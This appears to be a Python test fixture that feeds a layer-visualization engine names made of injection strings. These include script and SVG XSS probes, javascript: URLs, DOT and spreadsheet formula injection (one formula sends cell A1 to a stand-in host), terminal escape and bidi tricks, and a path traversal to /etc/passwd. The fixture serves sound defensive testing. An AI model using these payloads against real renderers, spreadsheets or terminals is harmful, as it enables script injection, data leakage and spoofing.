"""Names that would be code somewhere, and an engine that is full of them.

POISON, the inspector JSON of such an engine, and what it is read as.
"""

import json
from typing import Any, Final

from engine_layer_visualize.api.engine import Engine
from engine_layer_visualize.api.read import Log

POISON: Final = (
    # HTML, SVG, XML
    "</script><script>window.pwned=1</script>",
    "<!--<script>window.pwned=1",
    "--><img src=x onerror=window.pwned=1>",
    "</title></svg><svg onload=window.pwned=1>",
    "]]><x/>&lt;&amp;&#60;&nbsp;&undefined;",
    "<![CDATA[<?xml?>]]>",
    "javascript:window.pwned=1//\"'`onclick=window.pwned=1",
    # DOT
    'a" URL="javascript:pwned" b="',
    r"\N\G\E\T\H\L\l\r\n \\ \" {a|<port>b}",
    "<B>bold</B>:n:s -> x; } digraph y {",
    "ends with a backslash\\",
    # spreadsheets
    '=HYPERLINK("http://a.example/?"&A1,"x")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "'=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    'a","=1+1","b',
    # Markdown
    "[a](https://a.example) ![b](c) <https://d.example>",
    "https://a.example www.b.example c@d.example e.example/f conv.com f.net/x ftp://g",
    "@someone #1 !2 :smile: GH-3 owner/repo#4",
    "`code` *em* _em_ **b** ~~s~~ ||s|| | cell | $x$",
    "# head",
    "- item",
    "1. item",
    "> quote",
    "    indented",
    "---",
    "```",
    "a\n\n# head\n\n<script>",
    # terminals
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://a\x1b\\x\x9b2J\x1b[2J",
    "over\rwritten \b\b\b\x7f \x0e",
    "left \u202eright\u202c \u2066iso\u2069 \u200b\u200f",
    "[bold]markup[/bold] [link=http://a]x[/link] :boom:",
    # text
    "a\u2028b\u2029c\x85d\x00e\x1c\x1d\x1e\x1f",
    "blank \u3164\uffa0\u115f\u1160\u034f\u17b4\u17b5\ufe0e\ufe0f\U000e0100 ends",
    "da39a3ee5e6b4b0d3255bfef95601890afd80709",  # in Markdown a commit
    "lone \ud800 and \udfff, \\\ud800",
    "層 Ж λ 🙂 e\u0301",
    "%s %d {0} ${x} $(x) `x` %00",
    "../../../etc/passwd",
    "-rf",
    "x" * 4000,
)  # fmt: skip

# What a spreadsheet takes for the start of a formula, full-width forms included.
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def tensor(number: int) -> str:
    """What the tensor before layer `number` is called; all are different."""
    return f"{POISON[number % len(POISON)]}\t{number}"


def kernel(number: int) -> str:
    return f"{POISON[-1 - number]} kernel"


def inspector_json() -> str:
    """A chain of a layer for each name. JSON can hold any of them, lone surrogates as well."""

    def described(number: int) -> dict[str, Any]:
        text = "Row major linear FP16 format"
        return {"Name": tensor(number), "Dimensions": [1, 8], "Format/Datatype": text}

    rows = [
        {
            "Name": name,
            "LayerType": name,
            "Inputs": [described(number)],
            "Outputs": [described(number + 1)],
            "TacticName": kernel(number),
            "TacticValue": "0x1",
            "Metadata": f"[ONNX Layer: {name}]",
            name: name,
        }
        for number, name in enumerate(POISON)
    ]
    return json.dumps({"Layers": rows, "Bindings": [tensor(0), tensor(len(POISON))]})


def engine() -> Engine:
    (found,) = Log("poison.json", chunks=[inspector_json().encode()], facts=True).engines()
    assert [layer.name for layer in found.layers] == list(POISON)
    assert [layer.kernel for layer in found.layers] == [kernel(n) for n in range(len(POISON))]
    assert (found.inputs, found.outputs) == ((tensor(0),), (tensor(len(POISON)),))
    return found
